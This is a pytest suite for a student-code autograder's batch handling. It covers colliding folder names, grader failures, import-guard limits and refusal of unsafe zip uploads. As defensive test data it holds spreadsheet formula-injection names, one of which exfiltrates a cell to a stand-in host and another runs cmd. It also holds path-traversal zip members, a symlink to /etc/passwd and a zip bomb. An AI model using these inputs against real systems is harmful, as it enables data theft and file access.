"""Batch robustness (issue 11, section 2): odd folder names, the grader's own failures, the import guard's limits.

The whole-batch versions of these cases (graded in the namespaces sandbox, gradebook
checked) are in tests/test_grading_hostile.py; here each rule is one fast call.
"""

import json
import os
import re
import stat
import unicodedata
import zipfile
from pathlib import Path

import pytest

from gradcheck.grading.runner import GRADER_ERROR, display_name, grade_submission, result_folder
from gradcheck.grading.static import MAX_BYTES, forbidden_imports, format_violations
from tests.test_grading_keys_s35 import shown

ROOT = Path(__file__).resolve().parents[1]
ASSIGN = ROOT / "assignments" / "linear_relu_ce"
#: these tests read names, statuses, scores and files: a two-test suite worth the assignment's 28 points (its own
#: eleven tests cost about 1.2 CPU-s more a grading; tests/fixtures/grading_28_points)
TESTS = ROOT / "tests" / "fixtures" / "grading_28_points"


def test_a_folder_named_like_a_batch_file_gets_a_folder_of_its_own(tmp_path):
    assert result_folder(tmp_path, "alice") == tmp_path / "alice"
    assert result_folder(tmp_path, "results.json") == tmp_path / "results.json"  # not a batch file
    names = ["gradebook.csv", "Gradebook.CSV", "gradebook.csv~", "gradebook.csv~~", "scores.png", "grading.json",
             "x~"]
    folders = [result_folder(tmp_path, n).name for n in names]
    assert folders == ["gradebook.csv~", "Gradebook.CSV~", "gradebook.csv~~", "gradebook.csv~~~", "scores.png~",
                       "grading.json~", "x~"]
    assert len(set(folders)) == len(folders)


def test_the_batch_key_is_a_batch_file_and_long_names_that_fold_together_fit_the_disk(tmp_path):
    """tester16g M1: a submission folder named .gradcheck-key took the key's place (FileExistsError, a
    grader error on every rerun); L1: two 255-byte names differing in case got a 264-byte results folder."""
    from gradcheck.grading.runner import result_folders

    assert result_folder(tmp_path, ".gradcheck-key") == tmp_path / ".gradcheck-key~"
    long_names = ["a" * 255, "A" * 255, "\u00e9" * 127 + "b"]
    folders = result_folders(tmp_path, long_names)
    assert len({p.name.casefold() for p in folders.values()}) == 3
    for p in folders.values():
        assert len(os.fsencode(p.name)) <= 255
        p.mkdir()  # the disk takes it


def test_display_names_are_printable_and_never_shared():
    nfc, nfd = unicodedata.normalize("NFC", "caf\u00e9"), unicodedata.normalize("NFD", "caf\u00e9")
    latin1 = os.fsdecode(b"caf\xe9")  # a folder name that is not UTF-8 (surrogate-escaped by Python)
    names = [nfc, nfd, latin1, "caf\\xe9", "a\\b", "plain", "esc\x1b[31mred\x1b[0m", "c\x85", "c\\x85", "x\u202ey"]
    shown = [display_name(n) for n in names]
    assert shown == [nfc, nfd, "caf\\xe9", "caf\\\\xe9", "a\\\\b", "plain",  # tester17g L7: no raw ESC, C1, bidi
                     "esc\\x1b[31mred\\x1b[0m", "c\\u0085", "c\\\\x85", "x\\u202ey"]
    assert len(set(shown)) == len(shown)
    for s in shown:
        s.encode("utf-8")  # writable to the UTF-8 gradebook (a surrogate would raise)


def test_a_failure_of_the_graders_own_is_a_result_not_an_exception(tmp_path):
    """Before: any OSError of the grader (here: results.json is a folder) ended the whole batch."""
    sub = tmp_path / "sub"
    sub.mkdir()
    (sub / "layers.py").write_text((ASSIGN / "solution" / "layers.py").read_text())
    out = tmp_path / "out"
    (out / "results.json").mkdir(parents=True)
    (out / "results.json" / "keep").write_text("x")
    r = grade_submission(sub, TESTS, out, unsafe_no_isolation=True)
    assert r.status == GRADER_ERROR and r.score == 0
    assert r.message.startswith("the grader failed: IsADirectoryError") or "Is a directory" in r.message
    assert "results.json could not be written" in r.message


def test_the_import_guard_reports_a_file_it_cannot_parse_and_never_follows_imports(tmp_path):
    deep = tmp_path / "deep.py"
    deep.write_text("x = " + "1+" * 30_000 + "1\n")  # RecursionError in ast.parse (under the 64 KiB that are parsed whole)
    brackets = tmp_path / "brackets.py"
    brackets.write_text("x = " + "-" * 60_000 + "1\n")  # MemoryError in the parser (under 64 KiB)
    big = tmp_path / "big.py"
    big.write_bytes(b"#" * (MAX_BYTES + 1))
    selfish = tmp_path / "selfish.py"
    selfish.write_text("import selfish\nimport cycle\n")
    (tmp_path / "cycle.py").write_text("import selfish\n")
    got = forbidden_imports([str(p) for p in (deep, brackets, big, selfish, tmp_path / "cycle.py")], ["torch"],
                            root=str(tmp_path))
    assert [(v.file, v.module) for v in got] == [("big.py", None), ("brackets.py", None), ("deep.py", None)]
    assert "RecursionError" in got[2].statement and "MemoryError" in got[1].statement
    msg = format_violations(got, ["torch"])
    assert "could not check `big.py`: it is larger than 1 MiB" in msg and "no credit" in msg.lower()
    assert "`deep.py`: it is nested too deeply for Python's parser" in msg


def test_a_file_of_a_million_imports_keeps_ten_and_the_message_stays_short(tmp_path):
    f = tmp_path / "many.py"
    f.write_text("import torch\n" * 80_000)
    got = forbidden_imports([str(f)], ["torch"])
    assert len(got) == 10 and [v.line for v in got] == list(range(1, 11))
    assert len(format_violations(got * 3, ["torch"])) < 2_000 and "(and 20 more)" in format_violations(got * 3,
                                                                                                       ["torch"])


@pytest.mark.parametrize("name", ["gradebook.csv", os.fsdecode(b"non-utf8-\xff")])
def test_the_gradebook_holds_every_odd_name(tmp_path, name):
    import csv

    from gradcheck.grading.runner import SubmissionResult, write_gradebook

    rows = [SubmissionResult(name, 1.0, 2.0, "graded", 0.1, "x"), SubmissionResult("b", 2.0, 2.0, "graded", 0.1, "y")]
    path = write_gradebook(tmp_path / "gradebook.csv", rows, seed=3)
    got = list(csv.DictReader(open(path, encoding="utf-8")))
    assert [r["submission"] for r in got] == sorted([display_name(name), "b"])


def test_names_that_fold_together_get_folders_that_do_not(tmp_path):
    """Alice and alice (and café composed/decomposed) are one folder on a case-insensitive or normalising disk."""
    from gradcheck.grading.runner import result_folders

    nfc, nfd = unicodedata.normalize("NFC", "caf\u00e9"), unicodedata.normalize("NFD", "caf\u00e9")
    names = ["alice", "Alice", "ALICE", nfc, nfd, "bob", "Gradebook.csv", "gradebook.CSV", "x~"]
    folders = result_folders(tmp_path, names)
    assert folders["ALICE"] == tmp_path / "ALICE" and folders["bob"] == tmp_path / "bob"  # first in sorted order
    assert folders["Alice"].name.startswith("Alice~") and folders["alice"].name.startswith("alice~")
    assert folders[nfd] == tmp_path / nfd and folders[nfc].name.startswith(nfc + "~")
    assert folders["Gradebook.csv"].name == "Gradebook.csv~" and folders["gradebook.CSV"].name.startswith(
        "gradebook.CSV~~")
    folded = [unicodedata.normalize("NFC", p.name).casefold() for p in folders.values()]
    assert len(set(folded)) == len(names)
    assert result_folders(tmp_path, list(reversed(names))) == folders  # the same in every run of the batch
    crafted = folders["alice"].name  # a folder named like a disambiguated one gets one of its own too
    again = result_folders(tmp_path, [*names, crafted])
    assert len({unicodedata.normalize("NFC", p.name).casefold() for p in again.values()}) == len(names) + 1


def test_names_a_spreadsheet_would_run_as_formulas_are_neutralised_in_the_gradebook(tmp_path):
    import csv

    from gradcheck.grading.runner import SubmissionResult, write_gradebook

    names = ['=HYPERLINK("http://x.example/?"&A1,"grade")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
             "\tx", "'=x", "plain-name", "a=b"]
    rows = [SubmissionResult(n, 1.0, 2.0, "graded", 0.1, "p") for n in names]
    got = {r["submission"] for r in csv.DictReader(open(write_gradebook(tmp_path / "g.csv", rows, seed=1),
                                                       encoding="utf-8"))}
    assert got == {"'" + n for n in names[:4] + names[5:6]} | {"\\x09x", "plain-name", "a=b"}  # a tab: escaped
    assert not any(c[:1] in "=+-@\t\r" for c in got) and len(got) == len(names)


def test_a_submission_digest_sees_every_change_and_follows_no_link(tmp_path):
    from gradcheck.grading.runner import submission_digest

    sub = tmp_path / "sub"
    (sub / "hw").mkdir(parents=True)
    (sub / "layers.py").write_text("x = 1\n")
    d0 = submission_digest(sub)
    assert submission_digest(sub) == d0 and len(d0) == 64
    (sub / "layers.py").write_text("x = 2\n")
    d1 = submission_digest(sub)
    (sub / "hw" / "helper.py").write_text("")
    d2 = submission_digest(sub)
    (sub / "hw" / "helper.py").rename(sub / "hw" / "helper2.py")
    d3 = submission_digest(sub)
    (sub / "link.py").symlink_to(tmp_path / "target.py")  # dangling: never opened
    d4 = submission_digest(sub)
    (tmp_path / "target.py").write_text("secret")
    assert len({d0, d1, d2, d3, d4}) == 5 and submission_digest(sub) == d4


def test_a_resumed_batch_warns_and_regrades_a_submission_whose_files_changed(tmp_path):
    from gradcheck.grading.runner import grade_batch

    solution = (ASSIGN / "solution" / "layers.py").read_text()
    subs, out = tmp_path / "subs", tmp_path / "out"
    for name in ("amy", "ben"):
        (subs / name).mkdir(parents=True)
        (subs / name / "layers.py").write_text(solution)
    first = grade_batch(subs, TESTS, out, workers=2, seed=0, progress=False, plot=False,
                        unsafe_no_isolation=True)
    assert [s.score for s in first.submissions] == [28.0, 28.0] and not first.changed
    (subs / "ben" / "layers.py").write_text(solution.replace('self.grads["b"] = dY.sum(axis=0)',
                                                             'self.grads["b"] = dY.mean(axis=0)'))
    again = grade_batch(subs, TESTS, out, workers=2, progress=False, plot=False, unsafe_no_isolation=True)
    by = {s.name: s for s in again.submissions}
    assert by["amy"].status == "skipped" and by["ben"].status == "graded" and by["ben"].score < 28.0
    assert again.changed == ["ben"]
    assert "warning: 1 submission(s) changed since their saved result and were graded again: ben" in again.summary()
    assert json.loads((out / "ben" / "results.json").read_text())["extra_data"]["submission_sha256"]


def test_a_submission_folder_whose_name_starts_with_a_dot_is_graded_and_named_in_the_summary(tmp_path):
    """Tester report, session 6: subs6/.hidden was silently left out (no row, no note). A hidden
    folder holding .py files is a submission; one holding none (.git) is not, and the summary says
    it was left out."""
    from gradcheck.grading.runner import grade_batch, submission_folders

    subs = tmp_path / "subs"
    for name in ("alice", ".hidden"):
        (subs / name).mkdir(parents=True)
        (subs / name / "layers.py").write_text((ASSIGN / "solution" / "layers.py").read_text())
    (subs / ".git").mkdir()
    (subs / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (subs / "__MACOSX" / "alice").mkdir(parents=True)
    (subs / "__MACOSX" / "alice" / "._layers.py").write_bytes(b"\x00\x05\x16\x07")
    assert [p.name for p in submission_folders(subs)] == [".hidden", "alice"]
    res = grade_batch(subs, TESTS, tmp_path / "out", workers=1, seed=3, progress=False, plot=False,
                      unsafe_no_isolation=True)
    assert {s.name: (s.status, s.score) for s in res.submissions} == {".hidden": ("graded", 28.0),
                                                                     "alice": ("graded", 28.0)}
    rows = (tmp_path / "out" / "gradebook.csv").read_text().splitlines()
    assert any(r.startswith(".hidden,28") for r in rows), rows
    summary = " ".join(res.summary().split())
    assert "note: .hidden: graded as a submission (it holds .py files); its name starts with '.'" in summary, summary
    assert "left out as not submissions: .git, __MACOSX" in summary, summary


def _zip(path, members, *, links=(), compression=zipfile.ZIP_DEFLATED):
    """Write a zip of ``members`` ({name: bytes}) and symbolic-link members ``links`` ((name, target))."""
    with zipfile.ZipFile(path, "w", compression) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
        for name, target in links:
            info = zipfile.ZipInfo(name)
            info.create_system, info.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
            zf.writestr(info, target)
    return path


def test_stray_files_at_the_top_of_a_batch_are_listed_as_skipped_and_not_counted(tmp_path):
    """Before: notes.txt was passed over in silence and stray.py was a 0 row in the class mean
    (alice 28 and bob 28 showed a mean of 18.67). Now neither is a row; the summary says why."""
    from gradcheck.grading.runner import grade_batch, not_submissions

    subs = tmp_path / "subs"
    for name in ("alice", "bob"):
        (subs / name).mkdir(parents=True)
        (subs / name / "layers.py").write_text((ASSIGN / "solution" / "layers.py").read_text())
    (subs / "notes.txt").write_text("grading notes\n")
    (subs / "stray.py").write_text("print('collect')\n")
    os.symlink(ASSIGN / "solution" / "layers.py", subs / "linked.py")
    os.mkfifo(subs / "pipe")
    why = not_submissions(subs)
    assert sorted(why) == ["linked.py", "notes.txt", "pipe", "stray.py"]
    res = grade_batch(subs, TESTS, tmp_path / "out", workers=2, seed=1, progress=False, plot=False,
                      unsafe_no_isolation=True)
    assert [(s.name, s.score) for s in res.submissions] == [("alice", 28.0), ("bob", 28.0)]
    rows = (tmp_path / "out" / "gradebook.csv").read_text().splitlines()
    assert len(rows) == 3 and not (tmp_path / "out" / "stray.py").exists()
    summary = res.summary()
    assert "mean 28.00" in summary and "zero: 0" in summary, summary
    assert ("skipped, not a submission (no row, not in the scores): notes.txt: a file, not a submission "
            "folder or .zip") in summary
    assert "stray.py: a .py file, not a submission folder: if it is a student's, move it into a folder of its " \
           "own (e.g. stray/stray.py) and rerun" in summary
    assert f"linked.py: a link to a file (linked.py -> {ASSIGN / 'solution' / 'layers.py'}); links to files " \
           f"are never followed" in summary
    assert "pipe: not a file or a folder" in summary


def test_a_zip_at_the_top_of_a_batch_is_a_submission_graded_from_its_files(tmp_path):
    """Before: carol.zip beside alice/ got no row at all (a student lost)."""
    from gradcheck.grading.runner import grade_batch

    solution = (ASSIGN / "solution" / "layers.py").read_text()
    subs, out = tmp_path / "subs", tmp_path / "out"
    (subs / "alice").mkdir(parents=True)
    (subs / "alice" / "layers.py").write_text(solution)
    _zip(subs / "carol.zip", {"carol/layers.py": solution, "__MACOSX/carol/._layers.py": b"\0\5\26\7"})
    _zip(subs / "dan.ZIP", {"layers.py": solution.replace('self.grads["b"] = dY.sum(axis=0)',
                                                          'self.grads["b"] = dY.mean(axis=0)')})
    res = grade_batch(subs, TESTS, out, workers=2, seed=1, progress=False, plot=False,
                      unsafe_no_isolation=True)
    by = {s.name: s for s in res.submissions}
    assert sorted(by) == ["alice", "carol.zip", "dan.ZIP"] and not res.not_submissions
    assert by["carol.zip"].score == 28.0 and 0 < by["dan.ZIP"].score < 28.0
    data = json.loads((out / "carol.zip" / "results.json").read_text())
    assert "inside the folder `carol/`" in data["output"] and "__MACOSX" not in data["output"]
    again = grade_batch(subs, TESTS, out, workers=2, progress=False, plot=False, unsafe_no_isolation=True)
    assert {s.name: s.status for s in again.submissions} == dict.fromkeys(by, "skipped")
    _zip(subs / "dan.ZIP", {"layers.py": solution})  # a new upload: graded again
    third = grade_batch(subs, TESTS, out, workers=2, progress=False, plot=False, unsafe_no_isolation=True)
    assert third.changed == ["dan.ZIP"] and {s.name: s.score for s in third.submissions}["dan.ZIP"] == 28.0


@pytest.mark.parametrize("case, needle", [
    ("traversal", "would be written outside the submission's folder"),
    ("absolute", "would be written outside the submission's folder"),
    ("backslash", "would be written outside the submission's folder"),
    ("symlink", "is a symbolic link"),
    ("members", "more than 5"),
    ("bomb", "more than 1 MiB unpacked"),
    ("twice", "appears twice"),
    ("encrypted", "is encrypted"),
    ("garbage", "not a zip archive the grader can read (BadZipFile"),
])
def test_an_unsafe_zip_is_not_unpacked_and_says_why(tmp_path, monkeypatch, case, needle):
    from gradcheck.grading import archive

    monkeypatch.setattr(archive, "MAX_MEMBERS", 5)
    monkeypatch.setattr(archive, "MAX_BYTES", 1 << 20)
    z = tmp_path / "evil.zip"
    if case == "garbage":
        z.write_bytes(b"PK\3\4 not really")
    elif case == "encrypted":
        _zip(z, {"layers.py": b"x = 1\n"})
        data = bytearray(z.read_bytes())
        data[6] |= 1  # the local header's flag bits
        cd = data.find(b"PK\1\2")
        data[cd + 8] |= 1  # the central directory's
        z.write_bytes(bytes(data))
    else:
        members = {"traversal": {"ok.py": b"", "../../escaped.py": b"x"}, "absolute": {"/tmp/escaped.py": b"x"},
                   "backslash": {"..\\escaped.py": b"x"}, "symlink": {"ok.py": b""},
                   "members": {f"f{i}.py": b"" for i in range(6)}, "bomb": {"big.py": b"\0" * (2 << 20)},
                   "twice": {"layers.py": b"a"}}[case]
        _zip(z, members, links=[("layers.py", "/etc/passwd")] if case == "symlink" else ())
        if case == "twice":
            with zipfile.ZipFile(z, "a") as zf, pytest.warns(UserWarning, match="Duplicate name"):
                zf.writestr("layers.py", b"b")
    dest = tmp_path / "a" / "b" / "files"
    dest.mkdir(parents=True)
    with pytest.raises(archive.ArchiveRefused, match=re.escape(needle)) as refused:
        archive.unpack(z, dest)
    assert ("without links" in refused.value.advice) == (case == "symlink")  # tester16g L1: advice for its reason
    assert ("under 1 MiB" in refused.value.advice) == (case == "bomb")
    assert not list(tmp_path.rglob("escaped.py")) and not any(p.is_symlink() for p in dest.rglob("*"))
    if case in ("traversal", "symlink", "members", "absolute"):
        assert not list(dest.iterdir())  # refused before anything was written


def test_a_zip_the_grader_refuses_is_a_zero_row_saying_why(tmp_path):
    from gradcheck.grading.runner import grade_batch

    subs = tmp_path / "subs"
    (subs / "alice").mkdir(parents=True)
    (subs / "alice" / "layers.py").write_text((ASSIGN / "solution" / "layers.py").read_text())
    _zip(subs / "eve.zip", {"layers.py": (ASSIGN / "solution" / "layers.py").read_text()},
         links=[("notes.py", "../../alice/layers.py")])
    res = grade_batch(subs, TESTS, tmp_path / "out", workers=1, seed=1, progress=False, plot=False,
                      unsafe_no_isolation=True)
    eve = {s.name: s for s in res.submissions}["eve.zip"]
    assert (eve.status, eve.score, eve.max_score) == ("refused", 0.0, 28.0)
    assert eve.message == ("This submission is not graded: eve.zip is a zip archive that the autograder does not "
                           "unpack: its member 'notes.py' is a symbolic link (links are never unpacked: zip the "
                           "files themselves); score 0. Upload the files themselves, or a zip of them without "
                           "links.")
    data = json.loads((tmp_path / "out" / "eve.zip" / "results.json").read_text())
    assert all(t["score"] == 0 and shown(t["output"]) == eve.message for t in data["tests"])


def test_an_archive_other_than_zip_is_a_zero_row_saying_why(tmp_path):
    """dave.tar.gz at the top of a batch had no row (the verifying tester's V12): a student lost.
    Now it is a 0 row out of the assignment's points, saying that the grader unpacks .zip only."""
    import tarfile

    from gradcheck.grading.runner import grade_batch, not_submissions

    subs = tmp_path / "subs"
    (subs / "alice").mkdir(parents=True)
    (subs / "alice" / "layers.py").write_text((ASSIGN / "solution" / "layers.py").read_text())
    with tarfile.open(subs / "dave.tar.gz", "w:gz") as tar:
        tar.add(subs / "alice" / "layers.py", arcname="layers.py")
    assert "dave.tar.gz" not in not_submissions(subs)
    res = grade_batch(subs, TESTS, tmp_path / "out", workers=1, seed=1, progress=False, plot=False,
                      unsafe_no_isolation=True)
    dave = {s.name: s for s in res.submissions}["dave.tar.gz"]
    assert (dave.status, dave.score, dave.max_score) == ("refused", 0.0, 28.0)
    assert "dave.tar.gz is a .tar.gz archive, and the grader unpacks .zip archives only" in dave.message
